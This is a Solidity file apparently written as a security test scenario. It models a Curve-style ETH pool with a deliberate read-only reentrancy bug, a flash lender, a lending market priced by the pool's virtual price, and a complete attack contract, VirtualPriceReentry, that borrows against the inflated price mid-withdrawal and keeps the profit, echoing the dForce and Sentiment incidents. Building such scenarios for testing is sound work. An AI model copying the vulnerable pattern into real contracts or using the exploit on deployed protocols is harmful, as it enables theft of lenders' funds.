// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {IERC20} from "./Interfaces.sol";

/// @title PeggedEthPool: a Curve-style pool of ETH and an ETH-pegged token (think
/// stETH), both valued at par, with an ERC-20 LP token and a virtual price.
/// @notice Written for seqguard's scenarios. BUG, read-only reentrancy, as in Curve's
/// ETH pools read by dForce (February 2023, about $3.6M) and Balancer's by Sentiment
/// (April 2023, about $1M): `removeLiquidity` burns the LP tokens and sends the ETH
/// before it updates its balances. Every state-changing function holds the lock, but
/// `getVirtualPrice()` does not, so a protocol that reads it from inside that ETH
/// transfer sees the old balances over the new, smaller supply: a price several times
/// too high.
contract PeggedEthPool {
    IERC20 public immutable token;
    uint256[2] public balances; // [ETH, token], as booked
    string public constant name = "Pegged ETH LP";
    uint8 public constant decimals = 18;
    uint256 public constant FEE_BPS = 4;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    bool private locked;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    modifier lock() {
        require(!locked, "PeggedEthPool: locked");
        locked = true;
        _;
        locked = false;
    }

    constructor(IERC20 token_) {
        token = token_;
    }

    /// ETH per LP token, 1e18-scaled: what lending markets price this LP token by.
    function getVirtualPrice() external view returns (uint256) {
        return (balances[0] + balances[1]) * 1e18 / totalSupply;
    }

    /// Adds `msg.value` ETH and `tokenAmount` tokens, in any proportion.
    function addLiquidity(uint256 tokenAmount) external payable lock returns (uint256 lp) {
        if (tokenAmount > 0) require(token.transferFrom(msg.sender, address(this), tokenAmount));
        uint256 value = msg.value + tokenAmount;
        uint256 supply = totalSupply;
        lp = supply == 0 ? value : value * supply / (balances[0] + balances[1]);
        require(lp > 0, "PeggedEthPool: nothing added");
        balances[0] += msg.value;
        balances[1] += tokenAmount;
        _mint(msg.sender, lp);
    }

    /// Takes out both assets in proportion to `lp`.
    function removeLiquidity(uint256 lp) external lock returns (uint256 ethOut, uint256 tokenOut) {
        uint256 supply = totalSupply;
        ethOut = balances[0] * lp / supply;
        tokenOut = balances[1] * lp / supply;
        _burn(msg.sender, lp);
        (bool ok,) = msg.sender.call{value: ethOut}("");
        require(ok, "PeggedEthPool: ETH transfer failed");
        // the books follow the transfer: anyone reading the price during it saw them stale
        balances[0] -= ethOut;
        balances[1] -= tokenOut;
        require(token.transfer(msg.sender, tokenOut));
    }

    /// Swaps one asset for the other at par, less the fee.
    function exchange(bool ethIn, uint256 amountIn, uint256 minOut)
        external
        payable
        lock
        returns (uint256 out)
    {
        out = amountIn * (10_000 - FEE_BPS) / 10_000;
        require(out >= minOut, "PeggedEthPool: too little received");
        if (ethIn) {
            require(msg.value == amountIn, "PeggedEthPool: wrong ETH amount");
            balances[0] += amountIn;
            balances[1] -= out;
            require(token.transfer(msg.sender, out));
        } else {
            require(msg.value == 0, "PeggedEthPool: unexpected ETH");
            require(token.transferFrom(msg.sender, address(this), amountIn));
            balances[1] += amountIn;
            balances[0] -= out;
            (bool ok,) = msg.sender.call{value: out}("");
            require(ok, "PeggedEthPool: ETH transfer failed");
        }
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }

    function _mint(address to, uint256 value) internal {
        totalSupply += value;
        balanceOf[to] += value;
        emit Transfer(address(0), to, value);
    }

    function _burn(address from, uint256 value) internal {
        balanceOf[from] -= value;
        totalSupply -= value;
        emit Transfer(from, address(0), value);
    }
}

/// Called by EthFlashLender.flashLoan with the loan attached: send it back before returning.
interface IEthFlashBorrower {
    function onEthFlashLoan(uint256 amount, bytes calldata data) external payable;
}

/// @title EthFlashLender: ETH that depositors lend out for the length of one transaction,
/// free of charge (as Balancer's vault does).
contract EthFlashLender {
    mapping(address => uint256) public depositOf;
    bool private locked;

    modifier lock() {
        require(!locked, "EthFlashLender: locked");
        locked = true;
        _;
        locked = false;
    }

    function deposit() external payable lock {
        depositOf[msg.sender] += msg.value;
    }

    function withdraw(uint256 amount) external lock {
        depositOf[msg.sender] -= amount;
        payable(msg.sender).transfer(amount);
    }

    function flashLoan(uint256 amount, bytes calldata data) external lock {
        uint256 before = address(this).balance;
        IEthFlashBorrower(msg.sender).onEthFlashLoan{value: amount}(amount, data);
        require(address(this).balance >= before, "EthFlashLender: loan not repaid");
    }

    /// Repayments arrive as plain transfers.
    receive() external payable {}
}

/// @title VirtualPriceLending: lends the pegged token against PeggedEthPool LP tokens,
/// valued at the pool's virtual price (which it trusts to be manipulation-proof).
/// @notice Written for seqguard's scenarios; the market itself has no bug, it reads a
/// view that is wrong while the pool is mid-withdrawal (see PeggedEthPool).
contract VirtualPriceLending {
    PeggedEthPool public immutable pool;
    IERC20 public immutable debtToken;
    uint256 public constant LTV_PERCENT = 80;

    mapping(address => uint256) public collateralOf;
    mapping(address => uint256) public debtOf;
    uint256 public totalDebt;

    event Deposit(address indexed who, uint256 lp);
    event Withdraw(address indexed who, uint256 lp);
    event Borrow(address indexed who, uint256 amount);
    event Repay(address indexed who, uint256 amount);

    constructor(PeggedEthPool pool_, IERC20 debtToken_) {
        pool = pool_;
        debtToken = debtToken_;
    }

    function maxDebt(address who) public view returns (uint256) {
        return collateralOf[who] * pool.getVirtualPrice() / 1e18 * LTV_PERCENT / 100;
    }

    function deposit(uint256 lp) external {
        require(pool.transferFrom(msg.sender, address(this), lp));
        collateralOf[msg.sender] += lp;
        emit Deposit(msg.sender, lp);
    }

    function withdraw(uint256 lp) external {
        collateralOf[msg.sender] -= lp;
        require(debtOf[msg.sender] <= maxDebt(msg.sender), "VirtualPriceLending: undercollateralized");
        require(pool.transfer(msg.sender, lp));
        emit Withdraw(msg.sender, lp);
    }

    function borrow(uint256 amount) external {
        debtOf[msg.sender] += amount;
        totalDebt += amount;
        require(debtOf[msg.sender] <= maxDebt(msg.sender), "VirtualPriceLending: undercollateralized");
        require(debtToken.transfer(msg.sender, amount));
        emit Borrow(msg.sender, amount);
    }

    function repay(uint256 amount) external {
        require(debtToken.transferFrom(msg.sender, address(this), amount));
        debtOf[msg.sender] -= amount;
        totalDebt -= amount;
        emit Repay(msg.sender, amount);
    }
}

/// @title VirtualPriceReentry: borrows against PeggedEthPool LP tokens from inside the
/// pool's ETH transfer, while the virtual price is inflated.
/// @notice The dForce / Sentiment pattern, written for seqguard's scenarios: flash-borrow
/// ETH, add it as liquidity, post a little of the LP as collateral, remove the rest and,
/// in the receive hook, borrow all the inflated price allows; swap some of the token back
/// to ETH, repay, keep the rest and leave the collateral behind. Reverts unless it ends
/// with more (ETH plus the pegged token, at par) than it brought.
contract VirtualPriceReentry is IEthFlashBorrower {
    EthFlashLender public immutable lender;
    PeggedEthPool public immutable pool;
    VirtualPriceLending public immutable lending;
    address private immutable owner;
    uint256 private posted;
    bool private exiting;

    constructor(EthFlashLender lender_, PeggedEthPool pool_, VirtualPriceLending lending_) {
        (lender, pool, lending, owner) = (lender_, pool_, lending_, msg.sender);
    }

    function run(uint256 loan, uint256 posted_) external payable {
        require(msg.sender == owner, "VirtualPriceReentry: owner only");
        posted = posted_;
        lender.flashLoan(loan, "");
        IERC20 token = pool.token();
        uint256 tokens = token.balanceOf(address(this));
        require(tokens + address(this).balance > msg.value, "VirtualPriceReentry: no profit");
        require(token.transfer(owner, tokens));
        payable(owner).transfer(address(this).balance);
    }

    function onEthFlashLoan(uint256 amount, bytes calldata) external payable {
        require(msg.sender == address(lender), "VirtualPriceReentry: lender only");
        uint256 lp = pool.addLiquidity{value: address(this).balance}(0);
        pool.approve(address(lending), posted);
        lending.deposit(posted);
        exiting = true;
        pool.removeLiquidity(lp - posted); // borrows in receive(), below
        exiting = false;
        if (address(this).balance < amount) {
            // swap just enough of the token back to ETH to repay the loan
            uint256 missing = amount - address(this).balance;
            uint256 sell = missing * 10_000 / (10_000 - pool.FEE_BPS()) + 1;
            pool.token().approve(address(pool), sell);
            pool.exchange(false, sell, missing);
        }
        (bool ok,) = address(lender).call{value: amount}("");
        require(ok, "VirtualPriceReentry: repay failed");
    }

    receive() external payable {
        if (msg.sender != address(pool) || !exiting) return;
        uint256 room = lending.maxDebt(address(this)); // read mid-withdrawal: inflated
        uint256 cash = lending.debtToken().balanceOf(address(lending));
        lending.borrow(room < cash ? room : cash);
    }
}
